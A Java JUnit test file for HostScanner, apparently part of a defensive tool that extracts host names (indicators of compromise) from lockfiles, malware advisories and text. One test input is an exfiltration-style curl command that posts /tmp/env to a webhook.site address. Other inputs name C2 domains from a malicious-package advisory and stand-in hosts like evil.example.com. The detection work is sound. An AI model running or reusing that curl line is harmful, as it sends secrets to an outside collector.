package io.iocstream.parse;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.common.net.InternetDomainName;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;

class HostScannerTest {

    @Test
    void aRealLockfileYieldsItsRegistryHostAndNoFileOrPackageNames() throws IOException {
        byte[] lock = Files.readAllBytes(Path.of("src/test/resources/lockfiles/package-lock-v2/package-lock.json"));

        assertThat(HostScanner.hosts(lock)).contains("registry.npmjs.org")
                .noneMatch(host -> host.endsWith(".tgz") || host.endsWith(".js") || host.endsWith(".json"));
    }

    @Test
    void theC2DomainsOfARealOsvEntryAreFoundInItsText() throws IOException {
        byte[] osv = Files.readAllBytes(Path.of("src/test/resources/ioc/osv/malicious/pypi/litellm/MAL-2026-2144.json"));

        assertThat(HostScanner.hosts(osv)).contains("litellm.cloud", "models.litellm.cloud");
        // each with the line it is first on
        assertThat(HostScanner.hostLines(osv)).containsEntry("litellm.cloud", 25)
                .containsEntry("models.litellm.cloud", 28);
    }

    @Test
    void aHostsLineIsTheFirstItIsOnWhateverTheLineEndings() {
        byte[] text = "first line\r\nsee https://webhook.site/x\n\nand webhook.site again\nthen evil.example.com"
                .getBytes(java.nio.charset.StandardCharsets.US_ASCII);
        assertThat(HostScanner.hostLines(text)).containsExactly(java.util.Map.entry("webhook.site", 2),
                java.util.Map.entry("evil.example.com", 5));
    }

    @Test
    void urlsBareNamesAndMailAddressesCountButVersionsAndFileNamesDoNot() {
        String text = """
                curl -s -d @/tmp/env https://Webhook.Site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
                see docs at example.com. or mail ops@corp.example.org
                require('lodash.merge'); open('index.js'); version 1.2.3; ip 10.0.0.1
                http://build-cache:8080/artifact
                """;

        assertThat(HostScanner.hosts(text.getBytes(StandardCharsets.UTF_8)))
                .containsExactly("webhook.site", "example.com", "corp.example.org");
    }

    @Test
    void namesUnderWildcardAndExceptionRulesAreKeptAsGuavaJudgesThem() {
        // *.ck and !www.ck, *.kawasaki.jp and !city.kawasaki.jp, a private rule (github.io), and non-suffixes
        List<String> names = List.of("a.b.ck", "www.ck", "x.ck", "shop.x.kawasaki.jp", "city.kawasaki.jp",
                "evil.github.io", "github.io", "lodash.merge", "index.js", "pkg.tgz", "evil.co.uk");
        List<String> underPublicSuffix = names.stream()
                .filter(name -> InternetDomainName.from(name).isUnderPublicSuffix()).toList();

        assertThat(HostScanner.hosts(String.join(" ", names).getBytes(StandardCharsets.US_ASCII)))
                .containsExactlyElementsOf(underPublicSuffix)
                .contains("a.b.ck", "www.ck", "evil.github.io", "evil.co.uk")
                .doesNotContain("lodash.merge", "index.js");
    }
}
